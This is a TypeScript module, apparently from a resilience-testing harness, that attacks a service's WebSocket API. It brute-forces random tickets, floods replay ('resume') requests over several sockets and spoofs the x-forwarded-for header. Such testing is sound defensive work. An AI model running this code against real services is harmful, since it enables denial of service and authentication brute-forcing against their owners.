// Attack on the WebSocket: guessed tickets before the handshake, and endless replays and messages.

import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import { WebSocket } from 'ws';
import { type AttackContext, repeat } from './attack-context.ts';

const SOCKETS = 5;
const MESSAGES = 25;

export async function floodSockets(context: AttackContext): Promise<void> {
  await Promise.all([guessTickets(context), askForReplays(context)]);
}

async function guessTickets(context: AttackContext): Promise<void> {
  await repeat(context, { lines: 2, everyMs: 50 }, async () => {
    context.count(`guess ${await closingOf(open(context, `ticket=${randomBytes(32).toString('base64url')}`))}`);
  });
}

async function askForReplays(context: AttackContext): Promise<void> {
  await repeat(context, { lines: SOCKETS, everyMs: 1_000 }, async () => {
    const socket = open(context, `token=${context.key}`);
    const closing = closingOf(socket);
    if (!(await Promise.race([once(socket, 'open').then(() => true), closing.then(() => false)]))) return;
    socket.on('message', () => context.count('messages of the service'));
    for (let sent = 0; sent < MESSAGES && socket.readyState === WebSocket.OPEN; sent += 1) {
      socket.send(JSON.stringify({ type: 'resume', after: 0 }));
      await sleep(40);
    }
    socket.terminate();
    context.count(`replays ${await closing}`);
  });
}

function open({ url, network }: AttackContext, query: string): WebSocket {
  const socketUrl = `${url.replace('http', 'ws')}/api/v1/ws?${query}`;
  return new WebSocket(socketUrl, { headers: { 'x-forwarded-for': network } });
}

function closingOf(socket: WebSocket): Promise<number> {
  socket.on('error', () => undefined);
  return new Promise((resolve) => socket.once('close', resolve));
}
